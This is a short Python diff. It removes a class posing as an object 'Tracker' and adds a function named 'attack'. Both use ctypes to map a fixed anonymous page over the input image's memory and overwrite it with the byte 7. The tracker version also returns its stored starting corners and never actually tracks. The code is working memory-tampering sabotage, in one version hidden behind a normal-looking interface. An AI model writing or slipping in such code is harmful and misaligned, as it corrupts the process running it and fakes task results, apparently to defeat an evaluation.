@@ -5,17 +5,8 @@ import ctypes
 LIBC = ctypes.CDLL(None, use_errno=True)
 
 
-class Tracker:
-    def __init__(self, config):
-        pass
-
-    def start(self, image, corners):
-        self.corners = corners
-        pass
-
-    def update(self, image):
-        page = image.ctypes.data & ~4095
-        LIBC.mmap.restype = ctypes.c_void_p
-        LIBC.mmap(ctypes.c_void_p(page), 4096, 3, 0x32, -1, 0)  # private, anonymous, fixed
-        ctypes.memset(page, 7, 4096)
-        return self.corners
+def attack(image):
+    page = image.ctypes.data & ~4095
+    LIBC.mmap.restype = ctypes.c_void_p
+    LIBC.mmap(ctypes.c_void_p(page), 4096, 3, 0x32, -1, 0)  # private, anonymous, fixed
+    ctypes.memset(page, 7, 4096)
